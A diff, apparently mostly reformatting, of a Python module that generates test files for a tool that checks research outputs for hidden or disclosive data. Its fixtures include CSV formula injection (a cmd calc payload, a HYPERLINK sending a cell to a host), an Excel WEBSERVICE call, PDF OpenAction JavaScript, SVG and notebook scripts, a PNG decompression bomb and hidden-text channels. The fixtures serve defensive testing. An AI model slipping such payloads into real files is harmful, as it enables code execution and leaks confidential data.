@@ -141,19 +141,43 @@ def _sqlite() -> bytes:
 def text() -> Iterator[Attack]:
     words = b"The model was fitted on 4,820 people and results are below. "
     bits = "".join(f"{byte:08b}" for byte in SECRET[:30])
-    yield "text: zero width", "out.txt", ("Results" + "".join("\u200b" if b == "1" else "\u200c" for b in bits) + " are fine.\n").encode()
+    yield (
+        "text: zero width",
+        "out.txt",
+        ("Results" + "".join("\u200b" if b == "1" else "\u200c" for b in bits) + " are fine.\n").encode(),
+    )
     yield "text: tags", "out.txt", ("Results" + "".join(chr(0xE0000 + c) for c in b"secret") + " fine\n").encode()
-    yield "text: variation selectors", "out.txt", ("Results" + "".join(chr(0xFE00 + c % 16) for c in SECRET[:30]) + "\n").encode()
-    yield "text: supplementary selectors", "out.txt", ("R" + "".join(chr(0xE0100 + c) for c in SECRET[:40]) + "\n").encode()
+    yield (
+        "text: variation selectors",
+        "out.txt",
+        ("Results" + "".join(chr(0xFE00 + c % 16) for c in SECRET[:30]) + "\n").encode(),
+    )
+    yield (
+        "text: supplementary selectors",
+        "out.txt",
+        ("R" + "".join(chr(0xE0100 + c) for c in SECRET[:40]) + "\n").encode(),
+    )
     yield "text: bidi", "out.txt", "access \u202e\u2066// admin\u2069 granted\n".encode()
     yield "text: homoglyphs", "out.txt", "Thе rеsults аre finе and the mоdel holds.\n".encode()
     yield "text: soft hyphens", "out.txt", "re\u00adsults a\u00adre fine\n".encode()
     yield "text: conceal", "out.txt", b"ok \x1b[8mpatient 17 is positive\x1b[0m\n"
     yield "text: backspace", "out.txt", b"secret\x08\x08\x08\x08\x08\x08fine\n"
     yield "text: overwritten line", "out.txt", b"patient 17 is positive\rall is fine here     \n"
-    yield "text: trailing spaces", "out.txt", b"".join(b"line %d of results" % i + (b" " if b == "1" else b"") + b"\n" for i, b in enumerate(bits))
-    yield "text: trailing tabs", "out.txt", b"".join(b"line %d of it" % i + (b"\t " if b == "1" else b" \t") + b"\n" for i, b in enumerate(bits[:60]))
-    yield "text: line ends", "out.txt", b"".join(b"line %d" % i + (b"\r\n" if b == "1" else b"\n") for i, b in enumerate(bits))
+    yield (
+        "text: trailing spaces",
+        "out.txt",
+        b"".join(b"line %d of results" % i + (b" " if b == "1" else b"") + b"\n" for i, b in enumerate(bits)),
+    )
+    yield (
+        "text: trailing tabs",
+        "out.txt",
+        b"".join(b"line %d of it" % i + (b"\t " if b == "1" else b" \t") + b"\n" for i, b in enumerate(bits[:60])),
+    )
+    yield (
+        "text: line ends",
+        "out.txt",
+        b"".join(b"line %d" % i + (b"\r\n" if b == "1" else b"\n") for i, b in enumerate(bits)),
+    )
     yield "text: base64", "out.txt", words + base64.b64encode(SECRET) + b"\n"
     yield "text: base64 lines", "out.txt", words + b"\n" + base64.encodebytes(zlib.compress(SECRET))
     yield "text: base64 url", "out.md", words + base64.urlsafe_b64encode(SECRET) + b"\n"
@@ -164,15 +188,27 @@ def text() -> Iterator[Attack]:
     yield "text: base85", "out.txt", words + base64.b85encode(zlib.compress(SECRET)) + b"\n"
     yield "text: bits", "out.txt", words + bits.encode() + b"\n"
     yield "text: percent", "out.txt", words + "".join(f"%{c:02x}" for c in SECRET).encode() + b"\n"
-    yield "text: thin spaces", "out.txt", ("word" + "word".join("\u2009" if b == "1" else " " for b in bits) + "\n").encode()
+    yield (
+        "text: thin spaces",
+        "out.txt",
+        ("word" + "word".join("\u2009" if b == "1" else " " for b in bits) + "\n").encode(),
+    )
     yield "text: numbers", "out.txt", b"values: " + b" ".join(b"%d" % v for v in RANDOM.integers(0, 999, 200)) + b"\n"
-    yield "text: list in code", "run.py", b"data = [" + b", ".join(b"%.4f" % v for v in RANDOM.normal(size=200)) + b"]\n"
+    yield (
+        "text: list in code",
+        "run.py",
+        b"data = [" + b", ".join(b"%.4f" % v for v in RANDOM.normal(size=200)) + b"]\n",
+    )
     yield "text: braille blanks", "out.txt", ("ok" + "\u2800" * 40 + "\n").encode()
-    yield "text: base64 in json", "out.json", json.dumps({"r2": 0.5, "note": base64.b64encode(SECRET).decode()}).encode()
+    yield (
+        "text: base64 in json",
+        "out.json",
+        json.dumps({"r2": 0.5, "note": base64.b64encode(SECRET).decode()}).encode(),
+    )
 
 
 def delimited() -> Iterator[Attack]:
-    yield "csv: formula", "out.csv", b"term,coef\n\"=HYPERLINK(\"\"http://x/?\"\"&A1)\",0.5\nb,0.4\n"
+    yield "csv: formula", "out.csv", b'term,coef\n"=HYPERLINK(""http://x/?""&A1)",0.5\nb,0.4\n'
     yield "csv: command", "out.csv", b"term,coef\n=cmd|' /C calc'!A0,0.5\nb,0.4\n"
     yield "csv: plus formula", "out.csv", b"term,coef\n+SUM(A1:A9),0.5\nb,0.4\n"
     yield "csv: at formula", "out.csv", b"term,coef\n@SUM(1+1),0.5\nb,0.4\n"
@@ -182,7 +218,9 @@ def delimited() -> Iterator[Attack]:
     yield "csv: low digits", "out.csv", f"term,coef\n{low}\n".encode()
     many = "\n".join(f"t{i},0.{''.join(str(d) for d in RANDOM.integers(0, 9, 30))}" for i in range(20))
     yield "csv: thirty digits", "out.csv", f"term,coef\n{many}\n".encode()
-    quoted = "\n".join(f'"g{i}",{100 + 5 * i}' if b == "1" else f"g{i},{100 + 5 * i}" for i, b in enumerate("1011001110100110111001"))
+    quoted = "\n".join(
+        f'"g{i}",{100 + 5 * i}' if b == "1" else f"g{i},{100 + 5 * i}" for i, b in enumerate("1011001110100110111001")
+    )
     yield "csv: quoting", "out.csv", f"group,n\n{quoted}\n".encode()
     zeros = "\n".join(f"t{i},0.{i + 10}{'0' if b == '1' else ''}" for i, b in enumerate("1011001110100110111001"))
     yield "csv: needless zeros", "out.csv", f"term,coef\n{zeros}\n".encode()
@@ -202,12 +240,20 @@ def workbooks() -> Iterator[Attack]:
     yield "xlsx: very hidden sheet", "out.xlsx", _xlsx(hidden("veryHidden"))
     yield "xlsx: hidden row", "out.xlsx", _xlsx(lambda b: setattr(b.active.row_dimensions[2], "hidden", True))
     yield "xlsx: hidden column", "out.xlsx", _xlsx(lambda b: setattr(b.active.column_dimensions["B"], "hidden", True))
-    yield "xlsx: comment", "out.xlsx", _xlsx(lambda b: setattr(b.active["A1"], "comment", openpyxl.comments.Comment("patient 17", "x")))
-    yield "xlsx: formula", "out.xlsx", _xlsx(lambda b: b.active.append(["=WEBSERVICE(\"http://x\")", 100, 100]))
+    yield (
+        "xlsx: comment",
+        "out.xlsx",
+        _xlsx(lambda b: setattr(b.active["A1"], "comment", openpyxl.comments.Comment("patient 17", "x"))),
+    )
+    yield "xlsx: formula", "out.xlsx", _xlsx(lambda b: b.active.append(['=WEBSERVICE("http://x")', 100, 100]))
     yield "xlsx: properties", "out.xlsx", _xlsx(lambda b: setattr(b.properties, "description", SECRET.decode()))
     yield "xlsx: keywords", "out.xlsx", _xlsx(lambda b: setattr(b.properties, "keywords", "17,18,19"))
     yield "xlsx: no format", "out.xlsx", _xlsx(lambda b: setattr(b.active["B2"], "number_format", ";;;"))
-    yield "xlsx: white text", "out.xlsx", _xlsx(lambda b: setattr(b.active["A2"], "font", openpyxl.styles.Font(color="FFFFFFFF")))
+    yield (
+        "xlsx: white text",
+        "out.xlsx",
+        _xlsx(lambda b: setattr(b.active["A2"], "font", openpyxl.styles.Font(color="FFFFFFFF"))),
+    )
 
     def validation(book: openpyxl.Workbook) -> None:
         from openpyxl.worksheet.datavalidation import DataValidation
@@ -251,23 +297,115 @@ def notebooks() -> Iterator[Attack]:
     def changed(**extra: object) -> bytes:
         return notebook([{**code("x", shown(text__plain="2")), **extra}])
 
-    yield "notebook: attachment", "nb.ipynb", notebook([{"cell_type": "markdown", "source": "hi", "attachments": {"a.png": {"image/png": base64.b64encode(SECRET).decode()}}}])
+    yield (
+        "notebook: attachment",
+        "nb.ipynb",
+        notebook(
+            [
+                {
+                    "cell_type": "markdown",
+                    "source": "hi",
+                    "attachments": {"a.png": {"image/png": base64.b64encode(SECRET).decode()}},
+                }
+            ]
+        ),
+    )
     yield "notebook: cell metadata", "nb.ipynb", changed(metadata={"data": SECRET.decode()})
     yield "notebook: short metadata", "nb.ipynb", changed(metadata={"x": 17})
     book = json.loads(notebook(good))
-    yield "notebook: metadata", "nb.ipynb", json.dumps({**book, "metadata": {**book["metadata"], "rows": [1, 2, 3]}}).encode()
-    yield "notebook: widgets", "nb.ipynb", json.dumps({**book, "metadata": {**book["metadata"], "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"a": SECRET.decode()}}}}}).encode()
+    yield (
+        "notebook: metadata",
+        "nb.ipynb",
+        json.dumps({**book, "metadata": {**book["metadata"], "rows": [1, 2, 3]}}).encode(),
+    )
+    yield (
+        "notebook: widgets",
+        "nb.ipynb",
+        json.dumps(
+            {
+                **book,
+                "metadata": {
+                    **book["metadata"],
+                    "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"a": SECRET.decode()}}},
+                },
+            }
+        ).encode(),
+    )
     yield "notebook: unknown key", "nb.ipynb", json.dumps({**book, "backup": SECRET.decode()}).encode()
-    yield "notebook: duplicate keys", "nb.ipynb", notebook(good).replace(b'"nbformat": 4', b'"nbformat": 4, "nbformat": 4')
+    yield (
+        "notebook: duplicate keys",
+        "nb.ipynb",
+        notebook(good).replace(b'"nbformat": 4', b'"nbformat": 4, "nbformat": 4'),
+    )
     yield "notebook: javascript", "nb.ipynb", notebook([code("x", shown(application__javascript="fetch('x')"))])
-    yield "notebook: html script", "nb.ipynb", notebook([code("x", shown(text__html="<script>1</script>", text__plain="x"))])
-    yield "notebook: unknown output", "nb.ipynb", notebook([code("x", shown(application__x_data="17,18", text__plain="x"))])
-    yield "notebook: hidden html", "nb.ipynb", notebook([code("x", shown(text__html="<div style='display:none'>patient 17</div>", text__plain="x"))])
+    yield (
+        "notebook: html script",
+        "nb.ipynb",
+        notebook([code("x", shown(text__html="<script>1</script>", text__plain="x"))]),
+    )
+    yield (
+        "notebook: unknown output",
+        "nb.ipynb",
+        notebook([code("x", shown(application__x_data="17,18", text__plain="x"))]),
+    )
+    yield (
+        "notebook: hidden html",
+        "nb.ipynb",
+        notebook([code("x", shown(text__html="<div style='display:none'>patient 17</div>", text__plain="x"))]),
+    )
     yield "notebook: hidden output", "nb.ipynb", changed(metadata={"jupyter": {"outputs_hidden": True}})
-    yield "notebook: text behind image", "nb.ipynb", notebook([code("x", {"output_type": "display_data", "metadata": {}, "data": {"image/png": base64.b64encode(_png()).decode(), "text/plain": SECRET.decode()}})])
-    yield "notebook: printed rows", "nb.ipynb", notebook([code("df.head(40)", shown(text__plain=frames()["gpa2"].head(40).to_string(), text__html=frames()["gpa2"].head(40).to_html()))])
-    yield "notebook: printed small counts", "nb.ipynb", notebook([code("x", shown(text__plain="sex    0    1\nF      3   20\nM     30   40"))])
-    yield "notebook: image chunk", "nb.ipynb", notebook([code("x", {"output_type": "display_data", "metadata": {}, "data": {"image/png": base64.b64encode(_with_text()).decode()}})])
+    yield (
+        "notebook: text behind image",
+        "nb.ipynb",
+        notebook(
+            [
+                code(
+                    "x",
+                    {
+                        "output_type": "display_data",
+                        "metadata": {},
+                        "data": {"image/png": base64.b64encode(_png()).decode(), "text/plain": SECRET.decode()},
+                    },
+                )
+            ]
+        ),
+    )
+    yield (
+        "notebook: printed rows",
+        "nb.ipynb",
+        notebook(
+            [
+                code(
+                    "df.head(40)",
+                    shown(
+                        text__plain=frames()["gpa2"].head(40).to_string(),
+                        text__html=frames()["gpa2"].head(40).to_html(),
+                    ),
+                )
+            ]
+        ),
+    )
+    yield (
+        "notebook: printed small counts",
+        "nb.ipynb",
+        notebook([code("x", shown(text__plain="sex    0    1\nF      3   20\nM     30   40"))]),
+    )
+    yield (
+        "notebook: image chunk",
+        "nb.ipynb",
+        notebook(
+            [
+                code(
+                    "x",
+                    {
+                        "output_type": "display_data",
+                        "metadata": {},
+                        "data": {"image/png": base64.b64encode(_with_text()).decode()},
+                    },
+                )
+            ]
+        ),
+    )
 
 
 def markup() -> Iterator[Attack]:
@@ -282,11 +420,33 @@ def markup() -> Iterator[Attack]:
         yield f"html: {title}", "out.html", page.format(head=head, body=body).encode()
     frame = frames()["gpa2"].head(300)
     yield "svg: scatter", "fig.svg", _figure("s", lambda axes: axes.scatter(frame["sat"], frame["colgpa"]), "svg")
-    yield "svg: script", "fig.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script><rect width='5' height='5'/></svg>"
-    yield "svg: hidden text", "fig.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><text opacity='0'>patient 17</text><rect width='5' height='5'/></svg>"
-    yield "svg: metadata", "fig.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><metadata>" + SECRET + b"</metadata><rect width='5' height='5'/></svg>"
-    yield "svg: entity", "fig.svg", b"<!DOCTYPE svg [<!ENTITY x 'patient 17'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&x;</text></svg>"
-    yield "svg: foreign object", "fig.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><p>17</p></foreignObject></svg>"
+    yield (
+        "svg: script",
+        "fig.svg",
+        b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script><rect width='5' height='5'/></svg>",
+    )
+    yield (
+        "svg: hidden text",
+        "fig.svg",
+        b"<svg xmlns='http://www.w3.org/2000/svg'><text opacity='0'>patient 17</text><rect width='5' height='5'/></svg>",
+    )
+    yield (
+        "svg: metadata",
+        "fig.svg",
+        b"<svg xmlns='http://www.w3.org/2000/svg'><metadata>"
+        + SECRET
+        + b"</metadata><rect width='5' height='5'/></svg>",
+    )
+    yield (
+        "svg: entity",
+        "fig.svg",
+        b"<!DOCTYPE svg [<!ENTITY x 'patient 17'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&x;</text></svg>",
+    )
+    yield (
+        "svg: foreign object",
+        "fig.svg",
+        b"<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><p>17</p></foreignObject></svg>",
+    )
 
 
 def _with_text() -> bytes:
@@ -327,7 +487,14 @@ def images() -> Iterator[Attack]:
     Image.open(io.BytesIO(safe)).convert("RGB").save(plain, "JPEG")
     yield "jpeg: trailing", "fig.jpg", plain.getvalue() + SECRET
     yield "png: truncated", "fig.png", safe[: len(safe) // 2]
-    yield "png: bomb", "fig.png", b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)) + _chunk(b"IDAT", zlib.compress(bytes(100_000))) + _chunk(b"IEND", b"")
+    yield (
+        "png: bomb",
+        "fig.png",
+        b"\x89PNG\r\n\x1a\n"
+        + _chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0))
+        + _chunk(b"IDAT", zlib.compress(bytes(100_000)))
+        + _chunk(b"IEND", b""),
+    )
 
 
 def _pdf(change: Callable[[pikepdf.Pdf], None]) -> bytes:
@@ -340,12 +507,26 @@ def _pdf(change: Callable[[pikepdf.Pdf], None]) -> bytes:
 
 def pdfs() -> Iterator[Attack]:
     yield "pdf: attachment", "fig.pdf", _pdf(lambda p: p.attachments.__setitem__("a.csv", SECRET))
-    yield "pdf: javascript", "fig.pdf", _pdf(lambda p: setattr(p.Root, "OpenAction", pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")))
-    yield "pdf: layers", "fig.pdf", _pdf(lambda p: setattr(p.Root, "OCProperties", pikepdf.Dictionary(OCGs=pikepdf.Array(), D=pikepdf.Dictionary())))
+    yield (
+        "pdf: javascript",
+        "fig.pdf",
+        _pdf(lambda p: setattr(p.Root, "OpenAction", pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))),
+    )
+    yield (
+        "pdf: layers",
+        "fig.pdf",
+        _pdf(
+            lambda p: setattr(p.Root, "OCProperties", pikepdf.Dictionary(OCGs=pikepdf.Array(), D=pikepdf.Dictionary()))
+        ),
+    )
     yield "pdf: properties", "fig.pdf", _pdf(lambda p: p.docinfo.__setitem__("/Subject", SECRET.decode()))
     safe = _figure("x", lambda axes: axes.bar([0, 1], [1, 2]), "pdf")
     yield "pdf: trailing", "fig.pdf", safe + SECRET
-    yield "pdf: revision", "fig.pdf", safe + b"\n99 0 obj\n<< /A (patient 17) >>\nendobj\nxref\n0 0\ntrailer\n<< /Size 99 >>\nstartxref\n0\n%%EOF\n"
+    yield (
+        "pdf: revision",
+        "fig.pdf",
+        safe + b"\n99 0 obj\n<< /A (patient 17) >>\nendobj\nxref\n0 0\ntrailer\n<< /Size 99 >>\nstartxref\n0\n%%EOF\n",
+    )
 
     def append(text: bytes) -> Callable[[pikepdf.Pdf], None]:
         def change(made: pikepdf.Pdf) -> None:
@@ -355,8 +536,28 @@ def pdfs() -> Iterator[Attack]:
 
     yield "pdf: invisible text", "fig.pdf", _pdf(append(b"BT /F1 12 Tf 3 Tr 10 10 Td (patient 17) Tj ET"))
     yield "pdf: white text", "fig.pdf", _pdf(append(b"1 1 1 rg BT /F1 12 Tf 10 10 Td (patient 17) Tj ET"))
-    yield "pdf: annotation", "fig.pdf", _pdf(lambda p: setattr(p.pages[0], "Annots", pikepdf.Array([pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, Contents="patient 17", Rect=[0, 0, 1, 1])])))
-    yield "pdf: form", "fig.pdf", _pdf(lambda p: setattr(p.Root, "AcroForm", pikepdf.Dictionary(Fields=pikepdf.Array())))
+    yield (
+        "pdf: annotation",
+        "fig.pdf",
+        _pdf(
+            lambda p: setattr(
+                p.pages[0],
+                "Annots",
+                pikepdf.Array(
+                    [
+                        pikepdf.Dictionary(
+                            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, Contents="patient 17", Rect=[0, 0, 1, 1]
+                        )
+                    ]
+                ),
+            )
+        ),
+    )
+    yield (
+        "pdf: form",
+        "fig.pdf",
+        _pdf(lambda p: setattr(p.Root, "AcroForm", pikepdf.Dictionary(Fields=pikepdf.Array()))),
+    )
     frame = frames()["gpa2"].head(300)
     yield "pdf: scatter", "fig.pdf", _figure("s", lambda axes: axes.scatter(frame["sat"], frame["colgpa"]), "pdf")
     yield "pdf: private data", "fig.pdf", _pdf(lambda p: setattr(p.Root, "PieceInfo", pikepdf.Dictionary(X="17")))
@@ -364,17 +565,45 @@ def pdfs() -> Iterator[Attack]:
 
 def columnar() -> Iterator[Attack]:
     table = pa.table({"group": ["a", "b"], "n": [100, 200]})
-    yield "parquet: metadata", "out.parquet", _written(lambda out: pa.parquet.write_table(table.replace_schema_metadata({"rows": SECRET}), out))
-    yield "parquet: field metadata", "out.parquet", _written(lambda out: pa.parquet.write_table(pa.table([table[0], table[1]], schema=pa.schema([pa.field("group", pa.string(), metadata={"x": "17"}), pa.field("n", pa.int64())])), out))
+    yield (
+        "parquet: metadata",
+        "out.parquet",
+        _written(lambda out: pa.parquet.write_table(table.replace_schema_metadata({"rows": SECRET}), out)),
+    )
+    yield (
+        "parquet: field metadata",
+        "out.parquet",
+        _written(
+            lambda out: pa.parquet.write_table(
+                pa.table(
+                    [table[0], table[1]],
+                    schema=pa.schema([pa.field("group", pa.string(), metadata={"x": "17"}), pa.field("n", pa.int64())]),
+                ),
+                out,
+            )
+        ),
+    )
     frame = pd.DataFrame({"name": pd.Categorical(["p1", "p2", "p3"] * 40), "n": 100})
     few = frame[frame["name"] == "p1"].head(2)
     yield "parquet: categories", "out.parquet", _written(lambda out: few.to_parquet(out))
     yield "feather: categories", "out.feather", _written(lambda out: few.reset_index(drop=True).to_feather(out))
-    yield "feather: metadata", "out.feather", _written(lambda out: pa.feather.write_feather(table.replace_schema_metadata({"rows": SECRET}), out))
-    yield "parquet: index", "out.parquet", _written(lambda out: pd.DataFrame({"mean": [1.5, 2.5, 3.5]}, index=[17, 203, 999]).to_parquet(out))
+    yield (
+        "feather: metadata",
+        "out.feather",
+        _written(lambda out: pa.feather.write_feather(table.replace_schema_metadata({"rows": SECRET}), out)),
+    )
+    yield (
+        "parquet: index",
+        "out.parquet",
+        _written(lambda out: pd.DataFrame({"mean": [1.5, 2.5, 3.5]}, index=[17, 203, 999]).to_parquet(out)),
+    )
     plain = _written(lambda out: pa.parquet.write_table(table, out))
     yield "parquet: gap", "out.parquet", plain[:4] + SECRET * 10 + plain[4:]
-    yield "parquet: rows", "out.parquet", _written(lambda out: frames()["twoyear"].head(500).to_parquet(out, index=False))
+    yield (
+        "parquet: rows",
+        "out.parquet",
+        _written(lambda out: frames()["twoyear"].head(500).to_parquet(out, index=False)),
+    )
     yield "parquet: attributes", "out.parquet", _written(lambda out: _attributed().to_parquet(out))
 
 
@@ -397,7 +626,11 @@ def saved_models() -> Iterator[Attack]:
     yield "model: renamed", "model.txt", pickle.dumps({"coef": [1, 2]}, protocol=4)
     yield "model: joblib", "model.joblib", zlib.compress(pickle.dumps({"a": np.arange(100)}))
     yield "model: onnx", "model.onnx", b"\x08\x07\x12\x07pytorch" + RANDOM.bytes(300)
-    yield "model: torch", "model.pt", _zip(**{"archive/data.pkl": pickle.dumps({"a": 1}, protocol=2), "archive/version": b"3"})
+    yield (
+        "model: torch",
+        "model.pt",
+        _zip(**{"archive/data.pkl": pickle.dumps({"a": 1}, protocol=2), "archive/version": b"3"}),
+    )
 
 
 def disclosure() -> Iterator[Attack]:
@@ -423,7 +656,11 @@ def disclosure() -> Iterator[Attack]:
     yield table("freedom", "OLS\nNo. Observations:   14\nDf Residuals:       4\nR-squared: 0.98\n", "fit.txt")
     yield table("freedom in R", "Residual standard error: 0.3 on 5 degrees of freedom\n", "fit.txt")
     yield table("freedom in JSON", json.dumps({"r2": 0.9, "df_resid": 3, "nobs": 15}), "fit.json")
-    yield table("saturated", "Dep. Variable: y\nR-squared:                       1.000\nNo. Observations: 200\nDf Residuals: 190\n", "fit.txt")
+    yield table(
+        "saturated",
+        "Dep. Variable: y\nR-squared:                       1.000\nNo. Observations: 200\nDf Residuals: 190\n",
+        "fit.txt",
+    )
     yield table("few observations", "No. Observations:    6\nR-squared: 0.6\n", "fit.txt")
     yield table("dominance", "region,total_turnover,largest\nNorth,1000,970\nSouth,2000,300\n")
     yield table("dominant share", "region,sum,top2_share\nNorth,1000,0.96\nSouth,2000,0.4\n")
@@ -434,14 +671,41 @@ def disclosure() -> Iterator[Attack]:
     yield table("small cell in Markdown", "| sex | n |\n|---|---|\n| F | 120 |\n| M | 4 |\n", "out.md")
     yield table("small cell in LaTeX", "sex & 0 & 1 \\\\\nF & 120 & 3 \\\\\nM & 130 & 45 \\\\\n", "out.tex")
     yield table("small cell in JSON", json.dumps([{"sex": "F", "count": 120}, {"sex": "M", "count": 3}]), "out.json")
-    yield table("small cell in HTML", "<html><body><table><tr><th>sex</th><th>n</th></tr><tr><td>F</td><td>120</td></tr><tr><td>M</td><td>3</td></tr></table></body></html>", "out.html")
-    yield "disclosure: small cell in Parquet", "out.parquet", _written(lambda out: pa.parquet.write_table(pa.table({"sex": ["F", "M"], "count": [120, 3]}), out))
+    yield table(
+        "small cell in HTML",
+        "<html><body><table><tr><th>sex</th><th>n</th></tr><tr><td>F</td><td>120</td></tr><tr><td>M</td><td>3</td></tr></table></body></html>",
+        "out.html",
+    )
+    yield (
+        "disclosure: small cell in Parquet",
+        "out.parquet",
+        _written(lambda out: pa.parquet.write_table(pa.table({"sex": ["F", "M"], "count": [120, 3]}), out)),
+    )
     for data in ("gpa2", "wagepan", "nhefs", "fair", "randhie"):
-        yield f"disclosure: records of {data}", "out.csv", frames()[data].sample(120, random_state=1).to_csv(index=False).encode()
+        yield (
+            f"disclosure: records of {data}",
+            "out.csv",
+            frames()[data].sample(120, random_state=1).to_csv(index=False).encode(),
+        )
         shifted = frames()[data].select_dtypes("number").sample(150, random_state=2) * 1.37 + 11
         yield f"disclosure: shifted records of {data}", "out.csv", shifted.round(3).to_csv(index=False).encode()
     yield "disclosure: many rows", "out.csv", frames()["twoyear"].to_csv(index=False).encode()
-    yield "disclosure: ACRO fails", "results.json", json.dumps({"version": "1.0.2", "results": {"output_0": {"status": "fail", "summary": "fail; threshold: 3 cells may need suppressing", "files": []}}}).encode()
+    yield (
+        "disclosure: ACRO fails",
+        "results.json",
+        json.dumps(
+            {
+                "version": "1.0.2",
+                "results": {
+                    "output_0": {
+                        "status": "fail",
+                        "summary": "fail; threshold: 3 cells may need suppressing",
+                        "files": [],
+                    }
+                },
+            }
+        ).encode(),
+    )
 
 
 def identifiers() -> Iterator[Attack]:
@@ -451,13 +715,44 @@ def identifiers() -> Iterator[Attack]:
         ("telephone", "Call +44 20 7946 0958 about participant 12.\n"), ("Danish number", "CPR 211062-5629 is included\n"), ("Finnish code", "HETU 131052-308T is included\n"), ("Italian code", "Codice RCCMNL83S18D969H\n"),
     ):  # fmt: skip
         yield f"identifier: {title}", "out.txt", body.encode()
-    yield "identifier: names and dates", "out.csv", b"name,birth_date,mean\n" + b"".join(b"%s Smith,19%02d-03-1%d,4.5\n" % (n, 40 + i, i) for i, n in enumerate((b"Anna", b"Bert", b"Carla", b"Dora", b"Emil", b"Fritz")))
-    yield "identifier: id column", "out.csv", b"patient_id,score\n" + b"".join(b"%d,%.1f\n" % (4711 * (i + 3) % 9973, i / 7) for i in range(30))
-    yield "identifier: hashes", "out.csv", b"key,score\n" + b"".join(b"%s,%.1f\n" % (RANDOM.bytes(16).hex().encode(), i / 7) for i in range(30))
+    yield (
+        "identifier: names and dates",
+        "out.csv",
+        b"name,birth_date,mean\n"
+        + b"".join(
+            b"%s Smith,19%02d-03-1%d,4.5\n" % (n, 40 + i, i)
+            for i, n in enumerate((b"Anna", b"Bert", b"Carla", b"Dora", b"Emil", b"Fritz"))
+        ),
+    )
+    yield (
+        "identifier: id column",
+        "out.csv",
+        b"patient_id,score\n" + b"".join(b"%d,%.1f\n" % (4711 * (i + 3) % 9973, i / 7) for i in range(30)),
+    )
+    yield (
+        "identifier: hashes",
+        "out.csv",
+        b"key,score\n" + b"".join(b"%s,%.1f\n" % (RANDOM.bytes(16).hex().encode(), i / 7) for i in range(30)),
+    )
 
 
 def all_attacks() -> list[Attack]:
-    families = (file_system, types, text, delimited, workbooks, archives, notebooks, markup, images, pdfs, columnar, saved_models, disclosure, identifiers)
+    families = (
+        file_system,
+        types,
+        text,
+        delimited,
+        workbooks,
+        archives,
+        notebooks,
+        markup,
+        images,
+        pdfs,
+        columnar,
+        saved_models,
+        disclosure,
+        identifiers,
+    )
     return [attack for family in families for attack in family()]
 
 
